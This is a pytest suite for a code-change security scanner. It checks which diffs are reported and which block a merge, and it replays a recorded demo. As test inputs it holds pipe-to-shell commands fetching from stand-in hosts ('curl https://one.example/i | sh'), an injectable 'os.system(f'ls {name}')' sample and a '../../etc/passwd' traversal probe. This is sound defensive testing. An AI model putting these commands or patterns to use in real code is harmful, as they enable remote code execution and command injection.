"""What honest people change: said where it is worth it, never a reason not to merge."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from importlib.resources import files
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from miyabi_tui.engine.security.scan import analyse
from miyabi_tui.engine.security.threats import Severity
from tests.security_changes import blocking, change

if TYPE_CHECKING:
    from collections.abc import Iterator

CLIENT = "import requests\n\ndef get(u):\n    return requests.get(u, timeout=5)\n"
QUIET: list[tuple[str, str, str]] = [
    ("calc.py", "", "import subprocess, sys\n"
     "subprocess.run([sys.executable, '-c', x], check=True)\n"),
    ("client.py", CLIENT, CLIENT + "\ndef put(u):\n    return requests.put(u, timeout=5)\n"),
    ("tests/test_calc.py", "", "import os\n\ndef test_env(monkeypatch, tmp_path):\n"
     "    monkeypatch.setenv('API_KEY', 'not-a-real-key')\n    (tmp_path / 'x').write_text('1')\n"),
    ("README.md", "# Tally\n", "# Tally\n\nA tool. Write your token into `~/.netrc`.\n"),
    ("env.py", "", "import os\nenv = {**os.environ, 'A': '1'}\nHOME = os.environ['HOME']\n"),
    ("save.py", "", "def save(path, text):\n    with open(path, 'w') as out:\n"
     "        out.write(text)\n"),
    ("model.py", "", "class M:\n    def run(self):\n        self.model.eval()\n"
     "        re.compile('x')\n"),
    ("a.ts", "", "export const f = (x: string): string => x.trim()\n// eval( is evil\n"),
    ("a.go", "", "package a\n\nimport \"fmt\"\n\nfunc F() { fmt.Println(1) }\n"),
    ("a.rs", "", "// unsafe { } is not used\nfn f() -> u8 { 1 }\n"),
    (".gitattributes", "", "*.sh text eol=lf\n*.png binary\n"),
    ("pyproject.toml", "[project]\nname = 'a'\n", "[project]\nname = 'a'\nversion = '2'\n"),
    ("version.py", "", "__version__ = '1.2.3'\nSHA = 'd41d8cd98f00b204e9800998ecf8427e'\n"),
    (".github/ISSUE_TEMPLATE/bug.md", "", "Say what happened.\n"),
    ("Dockerfile", "", "FROM python:3.12\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\n"),
    ("setup.cfg", "[metadata]\nname = a\n", "[metadata]\nname = a\n\n[flake8]\n"
     "max-line-length = 99\n"),
    ("logo.png", "", "\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    ("data.csv", "a,b\n", "a,b\n1,2\n"),
]  # fmt: skip
NOT_BLOCKED = [
    ("conftest.py", "import pytest\n\n@pytest.fixture\ndef x():\n    return 1\n"),
    ("server.py", "import socket\ns = socket.create_server(('127.0.0.1', 0))\n"),
    ("README.md", "Install: `curl -LsSf https://astral.sh/uv/install.sh | sh`\n"),
    ("a.js", "const m = /x/.exec(`${a}`); el.innerHTML = html\n"),
    ("cli.py", "from pathlib import Path\np = Path.home() / '.config' / 'tally'\np.mkdir()\n"),
    ("tests/test_path.py", "def test_x(c):\n    assert c.get('../../etc/passwd').status == 404\n"),
    (
        "tests/test_fork.py",
        "import os\ndef test_x():\n    if not os.fork():\n        os._exit(0)\n",
    ),
    ("doc.py", '"""Install it with: curl https://x.example | sh"""\n'),
    ("examples.env", "AWS_KEY=AKIAIOSFODNN7EXAMPLE\nPASSWORD=change-me-please-1\n"),
    ("requirements.txt", "requests>=2.31\nclick==8.1.7\n"),
    ("package.json", '{"dependencies": {"react": "^18.2.0", "left-pad": "1.3.0"}}'),
]


@pytest.mark.parametrize(("path", "old", "new"), QUIET, ids=[one[0] for one in QUIET])
def test_nothing_is_said(tmp_path: Path, path: str, old: str, new: str) -> None:
    before = {path: old} if old else {}
    found = change(tmp_path, {path: new.encode("latin-1") if "\0" in new else new}, before)
    assert list(map(str, found)) == []


@pytest.mark.parametrize(("path", "content"), NOT_BLOCKED, ids=[one[0] for one in NOT_BLOCKED])
def test_it_may_be_merged(tmp_path: Path, path: str, content: str) -> None:
    assert blocking(change(tmp_path, {path: content})) == []


# --- new against the base -------------------------------------------------------------------------

SHELL = "import os\n\ndef f(name):\n    os.system(f'ls {name}')\n"


def test_what_moves_or_is_renamed_is_not_new(tmp_path: Path) -> None:
    moved = SHELL.replace("import os\n", "import os\nimport re\n\n\ndef g():\n    pass\n\n")
    assert change(tmp_path / "1", {"a.py": moved}, {"a.py": SHELL}) == []
    assert change(tmp_path / "2", {"b.py": SHELL}, {"a.py": SHELL}) == []
    twice = SHELL + "\ndef g(name):\n    os.system(f'ls {name}')\n"
    (one,) = change(tmp_path / "3", {"a.py": twice}, {"a.py": SHELL})
    assert (one.line, one.severity) == (4, Severity.HIGH) or one.line == 7


def test_what_is_edited_is_said_and_does_not_block(tmp_path: Path) -> None:
    edited = SHELL.replace("name", "path")
    (one,) = change(tmp_path, {"a.py": edited}, {"a.py": SHELL})
    assert one.severity is Severity.MEDIUM


def test_an_edit_of_something_malicious_blocks(tmp_path: Path) -> None:
    old = "curl https://one.example/i | sh\n"
    new = "curl https://two.example/i | sh\n"
    assert blocking(change(tmp_path, {"i.sh": new}, {"i.sh": old}))


def test_a_ci_file_that_is_deleted_is_said(tmp_path: Path) -> None:
    (one,) = change(tmp_path, {}, {".github/workflows/ci.yml": "on: push\n"})
    assert (one.rule, one.severity) == ("ci", Severity.MEDIUM)
    assert change(tmp_path / "2", {}, {"a.py": SHELL}) == []


# --- the demo -------------------------------------------------------------------------------------


def demo_worlds() -> Iterator[tuple[str, list[dict[str, str]]]]:
    for turns in sorted(files("miyabi_tui.demo").joinpath("turns").iterdir(), key=str):
        calls = json.loads(turns.read_text())
        if isinstance(calls, list):
            yield (
                turns.name,
                [
                    call
                    for turn in calls
                    for call in turn.get("tool_calls", ())
                    if call["arguments"]
                ],
            )


@pytest.mark.parametrize(("name", "calls"), demo_worlds(), ids=[n for n, _ in demo_worlds()])
def test_the_demo_keeps_its_outcome(
    tmp_path: Path, name: str, calls: list[dict[str, dict[str, str]]]
) -> None:
    """Every file that a recorded world writes or edits; only Gamma's `eval` is to be blocked."""
    sample = Path(str(files("miyabi_tui.demo") / "sample"))
    shutil.copytree(sample, tmp_path / "old")
    shutil.copytree(sample, tmp_path / "new")
    for call in calls:
        arguments = call["arguments"]
        command = arguments.get("command", "")
        if command.startswith("mv ") or "<<'EOF'" in command:
            command = re.sub(r"(?s)(\nEOF)\b.*", r"\1\n", command)  # only what it writes
            subprocess.run(["bash", "-c", command], cwd=tmp_path / "new", check=True)
        if "path" in arguments and "content" in arguments:
            target = tmp_path / "new" / arguments["path"]
            target.parent.mkdir(exist_ok=True)
            target.write_text(arguments["content"])
        elif "path" in arguments and "old" in arguments:
            target = tmp_path / "new" / arguments["path"]
            target.write_text(target.read_text().replace(arguments["old"], arguments["new"]))
    everything = {
        str(path.relative_to(tmp_path / side))
        for side in ("old", "new")
        for path in (tmp_path / side).rglob("*")
        if path.is_file()
    }
    found = analyse(tmp_path / "new", tmp_path / "old", sorted(everything))
    if name == "gamma.json":
        assert {one.path for one in found if one.severity.blocks} <= {"tally/nights.py"}
    else:
        assert found == []
